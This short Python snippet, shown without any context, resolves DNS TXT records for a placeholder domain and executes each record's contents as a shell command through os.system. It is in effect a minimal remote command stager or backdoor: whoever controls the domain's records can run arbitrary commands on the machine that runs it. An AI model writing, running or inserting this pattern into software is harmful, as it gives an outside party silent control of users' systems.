import dns.resolver, os
for answer in dns.resolver.resolve("x.example.invalid", "TXT"):
    os.system(str(answer))
